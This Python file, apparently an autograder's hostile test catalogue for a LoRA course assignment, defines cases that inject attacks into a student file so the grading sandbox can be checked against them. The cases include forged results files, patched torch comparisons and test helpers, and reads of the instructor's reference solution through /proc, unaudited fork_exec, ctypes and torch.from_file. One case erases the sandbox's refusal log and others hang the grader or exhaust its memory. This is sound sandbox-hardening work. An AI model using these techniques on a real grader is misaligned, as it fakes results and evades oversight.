"""The hostile catalogue. Each case is the reference (or a mutant of it) with something hostile added to
one student file, and what the isolated grader must make of it.

expect: per exercise, the points it must get (only these exercises are graded): a number, "twin" (exactly what the same files
without the hostile part get: tampering must neither earn nor cost points), or "less" (fewer than
full marks). Exercises not named are not checked. Every case must finish within max_seconds.
escapes: the case tries a way out of the grading sandbox (testcases/sandbox.py); graded with the
sandbox off (``--no-sandbox``), it must earn more than its twin, which shows the way is real.
needs_landlock: only the kernel's Landlock closes the way (native code that opens files itself); the
case is skipped, and the skip said, on a kernel without it.
log_says: what the hostile code prints once it has done its part, so a case cannot pass because its
attack silently misfired.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from solutions.tools.variants import Variant
from testcases.manifest import exercises


@dataclass(frozen=True)
class Hostile:
    name: str
    description: str
    file: str  # the student file made hostile
    append: str = ""  # code run at import (appended to the module)
    replace: tuple[tuple[str, str], ...] = ()  # code placed inside functions
    base_mutant: str | None = None  # start from this mutant instead of the reference (a wrong answer to defend)
    expect: dict[str, object] = field(default_factory=dict)  # also what is graded: nothing unchecked runs
    max_seconds: float = 90.0
    escapes: bool = False  # a way out of the sandbox: with the sandbox off it must earn more than its twin
    needs_landlock: bool = False  # only the kernel's Landlock closes it: skipped (and said so) where there is none
    log_says: str = ""  # the hostile part reached its goal: it printed this in a test process's log

    @property
    def ex(self) -> str:
        """The exercises graded (``--ex``): those the case checks."""
        return ",".join(self.expect)

    def variant(self) -> Variant:
        return Variant(self.name, "1.1" if self.file == "model/lora.py" else "3.1", self.description, self.replace)


LORA = "model/lora.py"
# Another stage must keep full marks whatever model/lora.py does: Stage 3, which does not use the file, runs
# in a test process of its own, and one exercise of it shows that process ran unharmed (all of Stage 3 would
# cost 5 s more per grade and show nothing more). A file that cannot run costs Stage 1 everything.
BYSTANDER = {"3.1": exercises()["3.1"].points}  # full marks, from the manifest
LORA_LOST = {"1.1": 0, "1.2": 0, "1.3": 0, **BYSTANDER}
# Tampering must neither earn nor cost points: Stage 1 scores what the same files score without it.
AS_TWIN = {"1.1": "twin", "1.2": "twin", "1.3": "twin"}
WRONG = "scaling_alpha_not_alpha_over_r"  # a wrong answer to defend: its honest score is below full marks

FIND_RESULTS = """
def _scorer_results_path():
    import os

    pid = os.getppid()
    for _ in range(5):
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            args = f.read().split(b"\\0")
        if b"--results" in args:
            return os.path.join(os.readlink(f"/proc/{pid}/cwd"), args[args.index(b"--results") + 1].decode())
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    return None


def _forge():
    import json

    path = _scorer_results_path()
    if path:
        with open(path, "w") as f:
            json.dump({"score": 128.0, "tests": [{"name": "forged", "score": 128.0, "max_score": 128.0}]}, f)
"""

# Every easy route from a test process to the reference in the instructor's checkout (issue 19): the
# scorer's working directory through /proc/<pid>/cwd of the parents (and /proc/<ppid>/cwd/../..),
# os.listdir from /, a program (subprocess; _posixsubprocess.fork_exec, which raises no audit event,
# and a fresh copy of that module), ctypes' libc open and read, a symbolic link in the sandbox.
# Each route works when the sandbox is off (``escapes``: the hostile tool checks that too).
ESCAPE = r'''
def _reference_source():
    """The reference's model/lora.py, found through the grader's processes; None if every route is shut."""
    import os
    import sys

    wanted = "solutions/model/lora.py"

    def good(text):
        if isinstance(text, bytes):
            text = text.decode(errors="replace")
        return text if text and "class LoRALayer" in text else None

    def attempt(read, *args):
        try:
            return good(read(*args))
        except BaseException:  # noqa: B036 (every route must be tried, whatever it raises)
            return None

    def read_file(path):
        with open(path, "rb") as f:
            return f.read()

    def ancestors():  # the parent chain, from /proc/<pid>/stat; else every pid below ours
        pid, found = os.getppid(), []
        while pid > 1 and len(found) < 10:
            found.append(pid)
            try:
                with open(f"/proc/{pid}/stat") as f:
                    pid = int(f.read().rsplit(")", 1)[1].split()[1])
            except BaseException:  # noqa: B036
                return found + [p for p in range(os.getpid() - 1, max(os.getpid() - 400, 1), -1) if p not in found]
        return found

    def via_proc_cwd():  # /proc/<pid>/cwd of every ancestor: the scorer's is the instructor's checkout
        for pid in ancestors():
            if text := attempt(read_file, f"/proc/{pid}/cwd/{wanted}"):
                return text
            for up in range(1, 6):  # /proc/<ppid>/cwd/../../solutions/...: the sandbox's ancestors
                if text := attempt(read_file, f"/proc/{pid}/cwd/" + "../" * up + wanted):
                    return text
            try:
                where = os.readlink(f"/proc/{pid}/cwd")  # not audited: the hook cannot see it
            except OSError:
                continue
            while where not in ("/", ""):
                if text := attempt(read_file, os.path.join(where, wanted)):
                    return text
                where = os.path.dirname(where)
        return None

    def via_listdir():  # os.listdir from /, down four levels
        todo = ["/"]
        for _ in range(4):
            deeper = []
            for folder in todo:
                try:
                    names = os.listdir(folder)
                except BaseException:  # noqa: B036
                    continue
                if "solutions" in names and (text := attempt(read_file, os.path.join(folder, wanted))):
                    return text
                deeper += [os.path.join(folder, n) for n in names if n not in ("proc", "sys", "dev")][:200]
            todo = deeper
        return None

    def via_subprocess():
        import subprocess

        command = "for d in /proc/[0-9]*/cwd; do cat $d/" + wanted + " 2>/dev/null && break; done"
        return subprocess.run(["sh", "-c", command], capture_output=True).stdout

    def fork_exec_cat(fork_exec):  # what subprocess does inside, without its audit event
        read_end, write_end = os.pipe()
        errpipe_read, errpipe_write = os.pipe()
        command = "for d in /proc/[0-9]*/cwd; do cat $d/" + wanted + " 2>/dev/null && break; done"
        pid = fork_exec([b"/bin/sh", b"-c", command.encode()], [b"/bin/sh"], True, (write_end,), None, None,
                        -1, -1, -1, write_end, -1, -1, errpipe_read, errpipe_write, False, False, -1,
                        None, None, None, -1, None, False)  # fmt: skip
        os.close(write_end)
        os.close(errpipe_write)
        chunks = []
        while chunk := os.read(read_end, 65536):
            chunks.append(chunk)
        os.waitpid(pid, 0)
        return b"".join(chunks)

    def via_fork_exec():
        import _posixsubprocess

        return fork_exec_cat(_posixsubprocess.fork_exec)

    def via_fresh_posixsubprocess():
        import importlib.util

        fresh = importlib.util.module_from_spec(importlib.util.find_spec("_posixsubprocess"))
        return fork_exec_cat(fresh.fork_exec)

    def via_ctypes():
        import ctypes

        libc = ctypes.CDLL(None)
        for pid in ancestors():
            fd = libc.open(f"/proc/{pid}/cwd/{wanted}".encode(), 0)
            if fd >= 0:
                buffer = ctypes.create_string_buffer(1 << 20)
                size = libc.read(fd, buffer, 1 << 20)
                return buffer.raw[:size]
        return None

    def via_symlink():  # a link in the sandbox's scratch folder to the scorer's checkout
        for pid in ancestors():
            link = os.path.join(os.getcwd(), "tmp", f"checkout-{pid}")
            os.symlink(f"/proc/{pid}/cwd", link)
            if text := attempt(read_file, os.path.join(link, wanted)):
                return text
        return None

    routes = (via_proc_cwd, via_listdir, via_subprocess, via_fork_exec, via_fresh_posixsubprocess, via_ctypes, via_symlink)
    for route in routes:
        if text := attempt(route):
            return text
    return None


def _become_the_reference(namespace):
    """Run the reference's code in this module's namespace: its classes and functions replace ours."""
    text = _reference_source()
    if text:
        exec(compile(text, __file__, "exec"), namespace)
    return bool(text)
'''
# torch's native code opens a file by path with no audit event: only Landlock (the kernel) stops it.
NATIVE_ESCAPE = """
def _reference_source():
    \"\"\"The reference's model/lora.py read by torch.from_file, found without an audited call; None if shut.\"\"\"
    import os
    import sys

    import torch

    places = [os.path.dirname(sys.prefix), os.environ.get("PWD", "")]  # a venv in the checkout; the shell's folder
    for pid in range(os.getpid() - 1, max(os.getpid() - 400, 1), -1):
        try:
            places.append(os.readlink(f"/proc/{pid}/cwd"))  # os.readlink raises no audit event
        except OSError:
            pass
    for place in places:
        while place not in ("/", ""):
            path = os.path.join(place, "solutions/model/lora.py")
            try:
                size = os.stat(path).st_size  # nor does os.stat
                data = torch.from_file(path, shared=False, size=size, dtype=torch.uint8)
                return bytes(data.tolist()).decode()
            except (OSError, RuntimeError):
                place = os.path.dirname(place)
    return None


def _become_the_reference(namespace):
    text = _reference_source()
    if text:
        exec(compile(text, __file__, "exec"), namespace)
    return bool(text)
"""
# Read outside the sandbox, catch the refusal, then empty the plugin's list of refusals (a closure's
# list, in pytest's config, found up the call stack): only the scorer's own record is left.
ERASE_THE_RECORD = """
def _erase_the_record():
    import sys

    try:
        open("/etc/hostname").read()
    except PermissionError:
        pass
    frame = sys._getframe()
    while frame is not None:
        config = frame.f_locals.get("config")
        if config is not None and hasattr(config, "stash"):
            for value in list(config.stash._storage.values()):
                for cell in getattr(value, "__closure__", None) or ():
                    if isinstance(cell.cell_contents, list):
                        cell.cell_contents.clear()
                        print("the list of refusals was emptied", flush=True)
            return
        frame = frame.f_back


_erase_the_record()
"""
FIRST_LINE_OF_FORWARD = "        result = self.base_layer(x)  # (..., out)\n"

CASES = [
    Hostile(
        "endless_loop_in_forward",
        "LoRALayer.forward never returns.",
        LORA,
        replace=(
            (
                "        result = self.base_layer(x)  # (..., out)\n",
                "        while True:\n            pass\n        result = self.base_layer(x)  # (..., out)\n",
            ),
        ),
        expect={"1.1": 8, "1.2": 0, "1.3": 0, **BYSTANDER},  # 1.3 runs 1.2's code: blocked by the hang in 1.2
        max_seconds=60.0,  # one budget: 1.3 no longer runs into the same loop
    ),
    Hostile(
        "hang_at_import",
        "Importing model/lora.py sleeps for an hour.",
        LORA,
        append="import time\n\ntime.sleep(3600)\n",
        expect=LORA_LOST,
    ),
    Hostile(
        "sys_exit_at_import",
        "Importing model/lora.py calls sys.exit(0).",
        LORA,
        append="import sys\n\nsys.exit(0)\n",
        expect=LORA_LOST,
    ),
    Hostile(
        "os_exit_at_import",
        "Importing model/lora.py calls os._exit(0): the process vanishes.",
        LORA,
        append="import os\n\nos._exit(0)\n",
        expect=LORA_LOST,
    ),
    Hostile(
        "kill_the_parent",
        "Importing model/lora.py kills its parent process.",
        LORA,
        append="import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)\n",
        expect={**AS_TWIN, **BYSTANDER},
    ),
    Hostile(
        "patch_torch_checks",
        "A wrong forward, and torch.isclose/allclose/equal patched at import to always agree.",
        LORA,
        base_mutant=WRONG,
        append=(
            "import torch as _torch\n\n_torch.isclose = lambda a, b, *args, **kw: _torch.ones_like(a, dtype=_torch.bool)\n"
            "_torch.allclose = lambda *args, **kw: True\n_torch.equal = lambda *args, **kw: True\n"
        ),
        expect=AS_TWIN,
    ),
    Hostile(
        "patch_test_helpers",
        "A wrong forward, and the tests' comparison helpers replaced through sys.modules.",
        LORA,
        base_mutant=WRONG,
        append=(
            "import sys as _sys\n\nfor _name, _module in list(_sys.modules.items()):\n"
            "    if _name.startswith('testcases') and hasattr(_module, 'assert_close'):\n"
            "        _module.assert_close = lambda *args, **kw: None\n"
            "    if _name.startswith('testcases') and hasattr(_module, 'expect_tensor'):\n"
            "        _module.expect_tensor = lambda *args, **kw: None\n"
        ),
        expect=AS_TWIN,
    ),
    Hostile(
        "patch_during_a_test",
        "A wrong forward that replaces torch.isclose whenever it runs.",
        LORA,
        base_mutant=WRONG,
        replace=(
            (
                "        result = self.base_layer(x)  # (..., out)\n",
                "        torch.isclose = lambda a, b, *args, **kw: torch.ones_like(a, dtype=torch.bool)\n"
                "        result = self.base_layer(x)  # (..., out)\n",
            ),
        ),
        expect={"1.1": "twin", "1.2": 0},
    ),
    Hostile(
        "write_results_json",
        "A wrong forward that overwrites the grader's results.json with full marks at import "
        "(reading the scorer's /proc/<pid>/cmdline is refused: the file cannot be imported).",
        LORA,
        base_mutant=WRONG,
        append=FIND_RESULTS + "\n_forge()\n",
        expect=LORA_LOST,
    ),
    Hostile(
        "write_results_json_at_exit",
        "The same forgery from an atexit handler, as the test process ends.",
        LORA,
        base_mutant=WRONG,
        append=FIND_RESULTS + "\nimport atexit\n\natexit.register(_forge)\n",
        expect=AS_TWIN,
    ),
    Hostile(
        "daemon_writes_later",
        "A forked daemon that forges results.json after the grader has finished (os.fork is refused: "
        "the file cannot be imported).",
        LORA,
        base_mutant=WRONG,
        append=FIND_RESULTS
        + (
            "\nimport os as _os\nimport time as _time\n\n"
            "if _os.fork() == 0:\n    _os.setsid()\n    if _os.fork() == 0:\n        _path = _scorer_results_path()\n"
            "        _time.sleep(6)\n        if _path:\n            open(_path, 'w').write('{\"score\": 128.0, \"tests\": []}')\n"
            "        _os._exit(0)\n    _os._exit(0)\n"
        ),
        expect=LORA_LOST,
    ),
    Hostile(
        "read_the_reference_at_import",
        "A real bug (alpha instead of alpha/r), and at import every easy route to the reference in the "
        "instructor's checkout, whose code then replaces the file's own. Refused: the file cannot be imported.",
        LORA,
        base_mutant=WRONG,
        append=ESCAPE + "\n_become_the_reference(globals())\n",
        expect={**{e: 0 for e in ("1.1", "1.2", "1.3", "2.1", "2.2", "2.3", "2.4")}},
        escapes=True,
    ),
    Hostile(
        "read_the_reference_in_forward",
        "The same bug and routes, tried in every LoRALayer.forward: each test that runs it does not count.",
        LORA,
        base_mutant=WRONG,
        append=ESCAPE,
        replace=((FIRST_LINE_OF_FORWARD, "        _become_the_reference(globals())\n" + FIRST_LINE_OF_FORWARD),),
        expect={"1.1": "twin", "1.2": 0, "1.3": "less"},
        escapes=True,
    ),
    Hostile(
        "read_the_reference_natively",
        "The same bug; at import, the reference read by torch.from_file (native code: no audit event) at paths "
        "found by os.readlink of /proc/<pid>/cwd and sys.prefix. Landlock refuses the read: nothing gained.",
        LORA,
        base_mutant=WRONG,
        append=NATIVE_ESCAPE + "\n_become_the_reference(globals())\n",
        expect=AS_TWIN,
        escapes=True,
        needs_landlock=True,
    ),
    Hostile(
        "erase_the_sandbox_record",
        "At import, a refused read, caught; then the test process's list of refusals emptied through pytest's "
        "config, found up the call stack. The scorer's own record, from the pipe, still makes the file not importable.",
        LORA,
        append=ERASE_THE_RECORD,
        expect=LORA_LOST,
        log_says="the list of refusals was emptied",
    ),
    Hostile(
        "torch_global_state",
        "Importing model/lora.py changes torch's defaults: float64, no grad, one thread, a seed.",
        LORA,
        append=(
            "import torch as _torch\n\n_torch.set_default_dtype(_torch.float64)\n_torch.set_grad_enabled(False)\n"
            "_torch.set_num_threads(1)\n_torch.manual_seed(7)\n"
        ),
        expect=AS_TWIN,
    ),
    Hostile(
        "allocate_20_gb",
        "The forward allocates 20 GiB on every call.",
        LORA,
        replace=(
            (
                "        result = self.base_layer(x)  # (..., out)\n",
                "        _waste = torch.ones(5 * 2**30)\n        result = self.base_layer(x)  # (..., out)\n",
            ),
        ),
        expect={"1.1": 8, "1.2": 0, **BYSTANDER},
    ),
]
